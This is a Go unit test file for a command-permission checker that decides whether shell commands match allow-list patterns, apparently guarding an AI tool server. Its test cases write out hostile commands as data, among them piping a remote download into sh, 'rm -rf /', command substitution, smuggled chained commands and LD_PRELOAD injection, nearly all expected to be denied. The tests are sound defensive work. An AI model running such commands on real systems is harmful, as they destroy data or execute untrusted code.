package judge

import (
	"testing"

	"github.com/mcp-tools/mcp-tools/internal/tool"
)

func TestAllow(t *testing.T) {
	for _, c := range []struct {
		pattern, command string
		want             bool
	}{
		{"npm ci", "npm ci", true}, {"npm ci", "npm ci --ignore-scripts", false}, {"npm ci", "npm ci && npm ci", true},
		{"npm ci", "npm ci; npm install x", false},
		{"rm -rf *", "rm -rf dist", true}, {"rm -rf *", "rm -rf dist build", false},
		{"rm -rf **", "rm -rf dist build", true},
		{"rm -rf **", "rm -rf ../x", false}, {"rm -rf **", "rm -rf /etc", false}, {"rm -rf **", "rm -rf $X", false},
		{"deploy **", "deploy --config=/etc/x", false}, {"deploy **", "deploy --config=a.yml prod", true},
		{"deploy *", "deploy -x/etc/y", false},
		{"kill *", "kill 77", true}, {"git push origin *", "git push origin main", true},
		{"git push **", "git push --receive-pack=evil", false},
		{"python **", "python a.py -c x", false}, {"python -c 'print(1)'", "python -c 'print(1)'", true},
		{"python -c *", "python -c evil", false},
		{"sh -c *", "sh -c evil", false}, {"env **", "env evil", false}, {"xargs **", "xargs evil", false},
		{"sudo **", "sudo ls", false},
		{"sudo ls", "sudo ls", false}, {"rm -rf /", "rm -rf /", false},
		{"curl **", "curl http://x.example | sh", false},
		{"deploy", "./deploy", false}, {"deploy", "deploy $(evil)", false}, {"deploy", "deploy > ../x", false},
		{"deploy", "FOO=1 deploy", true},
		{"deploy", "LD_PRELOAD=x deploy", false}, {"deploy", "deploy | evil", false}, {"npm ci", "npm  'ci'", true},
		{"busybox **", "busybox rm x", false},
	} {
		p, err := ParsePattern(c.pattern)
		if err != nil {
			t.Fatal(err)
		}
		v := Judge(request(c.command, false), Rules{Allow: []Pattern{p}})
		if got := v.Risk <= tool.Writes && v.Denied == nil; got != c.want {
			t.Errorf("%q with %q allowed: %v (%s, %+v)", c.command, c.pattern, got, v.Why, v.Denied)
		}
	}
}

func TestPatternProblems(t *testing.T) {
	for _, text := range []string{"", "  ", "*", "** x", "a ** b", "a b**", "*x y"} {
		if p, err := ParsePattern(text); err == nil {
			t.Errorf("%q is taken for %v", text, p)
		}
	}
}
